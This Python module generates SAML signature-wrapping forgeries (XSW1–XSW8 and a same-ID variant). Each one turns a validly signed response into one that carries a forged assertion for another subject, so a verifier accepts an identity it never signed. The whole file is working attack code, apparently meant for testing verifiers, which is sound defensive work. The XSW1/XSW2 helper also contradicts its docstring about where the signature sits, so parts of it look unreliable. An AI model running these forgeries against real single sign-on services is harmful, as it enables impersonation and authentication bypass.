"""The eight ways of wrapping a SAML signature (Somorovsky et al., "On Breaking SAML", 2012), each from one sound response.

In all of them the signed assertion stays in the document, untouched, and a forged one of another subject is where a
careless reader looks. The signature of XSW1 and 2 is of the whole response; of the others, of the assertion.
"""

import copy
from collections.abc import Callable
from typing import Any

from lxml import etree

A = "urn:oasis:names:tc:SAML:2.0:assertion"
P = "urn:oasis:names:tc:SAML:2.0:protocol"
DS = "http://www.w3.org/2000/09/xmldsig#"


def _parts(root: Any, subject: str) -> tuple[Any, Any, Any]:
    """The signed assertion, its signature, and a forged copy without one."""
    signed = root.find(f"{{{A}}}Assertion")
    forged = copy.deepcopy(signed)
    forged.remove(forged.find(f"{{{DS}}}Signature"))
    forged.find(f".//{{{A}}}NameID").text = subject
    forged.set("ID", "_forged")
    return signed, signed.find(f"{{{DS}}}Signature"), forged


def _response_wrapped(root: Any, subject: str, *, outside: bool) -> Any:
    original = copy.deepcopy(root)
    root.set("ID", "_forged-response")
    signed, _signature, forged = _parts(root, subject)
    root.replace(signed, forged)
    moved = original.find(f"{{{A}}}Assertion/{{{DS}}}Signature")
    moved.getparent().remove(moved)
    holder = etree.SubElement(moved, f"{{{DS}}}Object")
    if outside:
        root.insert(1, original)
        root.insert(2, moved)
    else:
        holder.append(original)
        root.insert(1, moved)
    return root


def xsw1(root: Any, subject: str) -> Any:
    return _response_wrapped(root, subject, outside=False)


def xsw2(root: Any, subject: str) -> Any:
    return _response_wrapped(root, subject, outside=True)


def xsw3(root: Any, subject: str) -> Any:
    """The forged one before the signed one."""
    signed, _signature, forged = _parts(root, subject)
    signed.addprevious(forged)
    return root


def xsw4(root: Any, subject: str) -> Any:
    """The signed one inside of the forged one."""
    signed, _signature, forged = _parts(root, subject)
    root.replace(signed, forged)
    forged.append(signed)
    return root


def xsw5(root: Any, subject: str) -> Any:
    """The signature in the forged one; the signed one, without it, at the end."""
    signed, signature, forged = _parts(root, subject)
    root.replace(signed, forged)
    signed.remove(signature)
    forged.insert(1, signature)
    root.append(signed)
    return root


def xsw6(root: Any, subject: str) -> Any:
    """The signature in the forged one, and the signed one in the signature."""
    signed, signature, forged = _parts(root, subject)
    root.replace(signed, forged)
    signed.remove(signature)
    forged.insert(1, signature)
    signature.append(signed)
    return root


def xsw7(root: Any, subject: str) -> Any:
    """The forged one in an Extensions element, which may hold anything."""
    signed, _signature, forged = _parts(root, subject)
    holder = etree.Element(f"{{{P}}}Extensions")
    holder.append(forged)
    signed.addprevious(holder)
    return root


def xsw8(root: Any, subject: str) -> Any:
    """The signed one in an Object of the signature in the forged one, which may hold anything too."""
    signed, signature, forged = _parts(root, subject)
    root.replace(signed, forged)
    signed.remove(signature)
    etree.SubElement(signature, f"{{{DS}}}Object").append(signed)
    forged.insert(1, signature)
    return root


def same_id(root: Any, subject: str) -> Any:
    """As XSW5, with the forged one under the ID of the signed one."""
    named = root.find(f"{{{A}}}Assertion").get("ID")
    made = xsw5(root, subject)
    made.find(f"{{{A}}}Assertion").set("ID", named)
    return made


WRAPPED: dict[str, Callable[[Any, str], Any]] = {
    made.__name__: made for made in (xsw1, xsw2, xsw3, xsw4, xsw5, xsw6, xsw7, xsw8, same_id)
}
